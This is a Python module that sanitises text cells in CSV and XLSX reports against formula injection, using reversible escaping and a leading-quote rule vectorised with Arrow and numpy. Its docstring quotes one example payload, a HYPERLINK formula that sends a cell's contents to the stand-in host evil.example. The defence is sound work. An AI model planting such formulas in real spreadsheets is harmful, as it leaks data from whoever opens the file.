"""Text cells a spreadsheet will not evaluate: the one place report CSV/XLSX cells are made safe.

Why: ids and names come from ERPs and input files; a cell such as
``=HYPERLINK("http://evil.example/?d="&A2,"Click")`` becomes a live formula when an auditor
opens the report in Excel or LibreOffice (OWASP "CSV injection").

The rule (documented in reconciliation/README.md, reversible):

1. Control characters other than tab, LF and CR (U+0000-U+0008, U+000B, U+000C, U+000E-U+001F,
   U+007F) are written as ``\\xNN``; a literal backslash is written as ``\\\\``. (XLSX cannot
   hold those characters at all, and a terminal would interpret them.)
2. A cell whose text then starts with ``=``, ``+``, ``-``, ``@``, tab, CR, LF or ``'`` gets one
   leading ``'`` -- unless it is a plain decimal number (``^-?[0-9]+(\\.[0-9]+)?$``), which is
   a value, not a formula, and stays exact. (``'`` is in the set so that stripping exactly one
   leading ``'`` always gives back the text of step 1.)

Recovering the original: strip one leading ``'``, then replace ``\\xNN`` by the character and
``\\\\`` by ``\\`` (``recover_array``; the input readers apply it to every text cell, so the
input CSVs a report pack keeps are safe to open too and still re-perform exactly). Numeric
(non-text) columns are untouched. Vectorised with Arrow.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from paybridge_reconciliation.arrow_bytes import edge_bytes, text_bytes

CONTROL_CHARS = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)]
CONTROL_RE = "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f]"
TRIGGER_RE = "^[=+\\-@\\t\\r\\n']"
#: a cell the rule changes: a trigger first character, or a backslash or control character
NEEDS_CHANGE_RE = f"{TRIGGER_RE}|[\\\\{CONTROL_RE[1:-1]}]"
PLAIN_NUMBER_RE = "^-?[0-9]+(\\.[0-9]+)?$"
ESCAPE = re.compile(r"\\(\\|x[0-9a-f]{2})")


def safe_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """A string array made safe by the module's rule (nulls stay null).

    One regex pass first: most columns (hashes, addresses, accounts, amounts) need no change
    and are returned as they are, which keeps publishing 1M-row outputs cheap."""
    if not _may_need_change(values):
        return values
    if pa.types.is_dictionary(values.type):  # repeated text: the rule runs on each value once
        if isinstance(values, pa.ChunkedArray):
            return pa.chunked_array([safe_array(c) for c in values.chunks])
        return pa.DictionaryArray.from_arrays(values.indices, safe_array(values.dictionary))
    values = pc.replace_substring(values, "\\", "\\\\")
    if pc.any(pc.match_substring_regex(values, CONTROL_RE)).as_py():
        for char in CONTROL_CHARS:
            values = pc.replace_substring(values, char, f"\\x{ord(char):02x}")
    trigger = pc.and_(
        pc.match_substring_regex(values, TRIGGER_RE),
        pc.invert(pc.match_substring_regex(values, PLAIN_NUMBER_RE)),
    )
    if not pc.any(trigger).as_py():
        return values
    kind = values.type
    quoted = pc.binary_join_element_wise(pa.scalar("'", kind), values, pa.scalar("", kind))
    return pc.if_else(trigger, quoted, values)


# bytes that make a cell need the rule anywhere in it (backslash, control characters) ...
_ANYWHERE = np.zeros(256, dtype=bool)
_ANYWHERE[[*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, ord("\\")]] = True
# ... and as its first byte
_FIRST = _ANYWHERE.copy()
_FIRST[[ord(c) for c in "=+-@\t\r\n'"]] = True


def _may_need_change(values: pa.Array | pa.ChunkedArray) -> bool:
    """False only when no cell needs the rule; read from the raw UTF-8 bytes with numpy (a
    table lookup per byte), about 30x cheaper than a regex over every cell. Arrays it cannot
    read that way (nulls, other layouts) answer with the regex."""
    chunks = values.chunks if isinstance(values, pa.ChunkedArray) else [values]
    for chunk in chunks:
        if isinstance(chunk, pa.DictionaryArray):
            chunk = chunk.dictionary
        try:
            parts = list(text_bytes(chunk))
        except TypeError:
            if pc.any(pc.match_substring_regex(chunk, NEEDS_CHANGE_RE)).as_py():
                return True
            continue
        for data, offsets in parts:
            if _has_flagged_byte(data) or _FIRST[edge_bytes(data, offsets)[0]].any():
                return True
    return False


def _has_flagged_byte(data: np.ndarray, block: int = 1 << 18) -> bool:
    """Any control byte, DEL or backslash in ``data``; in cache-sized blocks, by SIMD minima
    (a minimum of data XOR b is 0 exactly when byte b occurs): ~100x faster than a regex."""
    scratch = np.empty(min(block, len(data)), dtype=np.uint8)
    for start in range(0, len(data), block):
        part = data[start : start + block]
        here = scratch[: len(part)]
        if part.min() < 0x20 and _ANYWHERE[part].any():
            return True
        for flagged in (0x5C, 0x7F):
            np.bitwise_xor(part, flagged, out=here)
            if here.min() == 0:
                return True
    return False


def safe_table(table: pa.Table) -> pa.Table:
    """Every string column of an Arrow table made safe; other types untouched."""
    for i, field in enumerate(table.schema):
        kind = field.type.value_type if pa.types.is_dictionary(field.type) else field.type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            table = table.set_column(i, field, safe_array(table.column(i)))
    return table


def safe_text_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Every cell as safe text (for the XLSX sheets, which hold text only)."""
    if frame.empty:
        return frame.astype(str)
    columns = {
        str(name): safe_array(pa.array(frame[name].astype(str).to_numpy(), pa.string()))
        for name in frame.columns
    }
    return pd.DataFrame(
        {name: array.to_numpy(zero_copy_only=False) for name, array in columns.items()},
        index=frame.index,
    )


def safe_text(value: str) -> str:
    """One value made safe (same rule)."""
    return safe_array(pa.array([value], pa.string()))[0].as_py()


def recover_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """The text ``safe_array`` was given: one leading ``'`` stripped, escapes decoded.

    Text that never went through the rule comes back unchanged unless it starts with ``'`` or
    holds ``\\\\`` / ``\\xNN`` (documented for input files). Only rows with a backslash take
    the Python path."""
    if not _may_need_change(values):  # no leading ' and no backslash anywhere: nothing to undo
        return values
    if pc.any(pc.starts_with(values, "'")).as_py():
        values = pc.replace_substring_regex(values, "^'", "", max_replacements=1)
    escaped = pc.match_substring(values, "\\")
    if not pc.any(escaped).as_py():
        return values
    if isinstance(values, pa.ChunkedArray):
        values = values.combine_chunks()
    texts = values.to_pylist()
    for row in pc.indices_nonzero(pc.fill_null(escaped, False)).to_pylist():
        texts[row] = ESCAPE.sub(_unescape, texts[row])
    return pa.array(texts, values.type)


def _unescape(match: re.Match[str]) -> str:
    code = match.group(1)
    return "\\" if code == "\\" else chr(int(code[1:], 16))


def safe_columns(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every text (object/string) column made safe; numbers untouched."""
    out = frame.copy()
    for name in frame.columns:
        try:  # text columns only; empty cells (None) stay empty
            text = pa.array(frame[name].to_numpy(dtype=object), pa.string(), from_pandas=True)
        except (pa.ArrowInvalid, pa.ArrowTypeError):
            continue
        out[name] = safe_array(text).to_numpy(zero_copy_only=False)
    return out
